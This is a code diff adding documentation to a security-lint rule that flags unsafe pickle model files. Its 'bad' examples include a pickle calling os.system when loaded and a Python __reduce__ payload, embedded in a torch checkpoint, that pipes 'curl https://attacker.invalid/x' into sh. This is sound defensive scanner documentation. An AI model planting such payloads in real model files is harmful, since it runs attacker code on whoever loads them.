@@ -30,6 +30,68 @@ export default defineRule<Options>({
       'add it to the policy: `model/unsafe-pickle: { allow: [mypkg.models.MyClassifier] }`.',
     ].join('\n'),
     defaultSeverity: 'critical',
+    docs: {
+      examples: {
+        bad: [
+          {
+            title: 'A protocol-0 pickle is plain text: this one calls os.system("echo pwned") when loaded',
+            lang: 'text',
+            file: 'models/model.pkl',
+            code: [
+              'cos',
+              'system',
+              '(S\'echo pwned\'',
+              'tR.',
+            ].join('\n'),
+          },
+          {
+            title: 'How such files are made: any object whose __reduce__ returns a callable',
+            lang: 'python',
+            code: [
+              'class Payload:',
+              '    def __reduce__(self):',
+              '        import os',
+              '        return (os.system, (\'curl https://attacker.invalid/x | sh\',))',
+              '',
+              'torch.save({\'state_dict\': weights, \'extra\': Payload()}, \'model.pt\')',
+            ].join('\n'),
+          },
+        ],
+        good: [
+          {
+            title: 'A pickle of plain data (a dict of numbers) imports nothing',
+            lang: 'text',
+            file: 'models/config.pkl',
+            code: [
+              '(dp0',
+              'S\'lr\'',
+              'p1',
+              'F0.01',
+              's.',
+            ].join('\n'),
+          },
+          {
+            title: 'Weights saved and loaded without unpickling',
+            lang: 'python',
+            code: [
+              'from safetensors.torch import load_file, save_file',
+              '',
+              'save_file(model.state_dict(), \'model.safetensors\')',
+              'model.load_state_dict(load_file(\'model.safetensors\'))',
+              '# a pickle-based checkpoint you must read: tensors and containers only',
+              'state = torch.load(\'legacy.pt\', weights_only=True)',
+            ].join('\n'),
+          },
+        ],
+      },
+      references: [
+        { title: 'Python documentation: pickle (the security warning)', url: 'https://docs.python.org/3/library/pickle.html' },
+        { title: 'PyTorch documentation: torch.load and weights_only', url: 'https://pytorch.org/docs/stable/generated/torch.load.html' },
+        { title: 'Hugging Face Hub: pickle scanning', url: 'https://huggingface.co/docs/hub/security-pickle' },
+        { title: 'safetensors', url: 'https://huggingface.co/docs/safetensors/index' },
+        { title: 'picklescan (the sample corpus our tests compare with)', url: 'https://github.com/mmaitre314/picklescan' },
+      ],
+    },
     kinds: ['model', 'binary'],
     formats: ['pickle', 'pytorch-zip', 'torch-legacy', 'joblib', 'npy', 'npz', 'zip', 'keras', '7z', 'gzip', 'bzip2', 'xz', 'zstd', 'tar'],
     options: {
